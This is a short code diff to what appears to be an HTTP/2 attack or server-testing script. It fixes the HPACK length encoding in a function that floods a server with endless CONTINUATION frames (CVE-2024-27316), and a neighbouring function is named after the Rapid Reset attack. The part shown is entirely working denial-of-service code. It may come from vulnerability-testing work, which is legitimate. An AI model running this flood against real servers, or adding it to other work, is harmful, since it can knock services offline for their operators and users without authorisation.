@@ -180,7 +180,7 @@ def rapid_reset(link, last):
 def continuation_flood(link, last):
     """A head that never ends (CVE-2024-27316 and its like)."""
     link.sendall(frame(HEADERS, END_STREAM, 1, request_fields()))
-    field = b"\x00\x01a\x7f\x81\x07" + b"x" * 264
+    field = b"\x00\x01a\x7f\x89\x01" + b"x" * 264  # a literal of 264 bytes under the name "a"
     while time.monotonic() < last:
         link.sendall(frame(CONTINUATION, 0, 1, field * 32))
     return "not ended"
